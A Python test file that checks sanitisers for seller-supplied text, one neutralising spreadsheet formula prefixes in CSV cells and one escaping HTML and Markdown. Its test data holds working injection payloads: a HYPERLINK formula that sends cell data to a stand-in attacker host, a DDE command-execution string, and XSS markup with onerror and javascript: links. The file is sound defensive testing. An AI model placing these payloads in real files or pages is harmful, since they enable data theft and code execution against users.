"""The two shared guards for seller-supplied text: CSV cells for spreadsheets and page text."""

import io

import markdown_it
import pandas as pd
import pytest

from workbench.security.safe_text import escape_html, escape_markdown
from workbench.catalog.people_csv import neutralise_cell, people_csv_text, write_people_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_prefixes_are_neutralised(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+3.5", "1e3", "Nike Men Shoes", "", "a=b"])
def test_plain_text_and_numbers_stay(cell):
    assert neutralise_cell(cell) == cell


def test_numbers_stay_numbers_in_a_written_file(tmp_path):
    frame = pd.DataFrame({"title": ATTACKS, "price": [1.5, -2.0, 3.0, 4.0, 5.0, 6.0],
                          "=evil": ["x"] * 6})
    path = tmp_path / "out.csv"
    write_people_csv(frame, path)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert all(cell.startswith("'") for cell in back["title"])
    assert back["price"].tolist() == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0"]
    assert list(back.columns)[2] == "'=evil"
    written = path.read_bytes().decode()
    assert people_csv_text(frame) == written
    buffer = io.StringIO()
    write_people_csv(frame, buffer)
    assert buffer.getvalue() == written


HOSTILE = '<img src=x onerror="window.__xss=1">[click](javascript:alert(1)) **bold** <script>x</script>'


def test_escaped_markdown_renders_as_text_only():
    rendered = markdown_it.MarkdownIt("commonmark").render(escape_markdown(HOSTILE))
    assert "<img" not in rendered and "<script" not in rendered and "<a " not in rendered
    assert "<strong>" not in rendered
    assert "&lt;img src=x onerror=" in rendered


def test_escaped_html_has_no_tags_or_attribute_breakout():
    out = escape_html(HOSTILE + "' \"")
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    assert escape_html(None) == ""
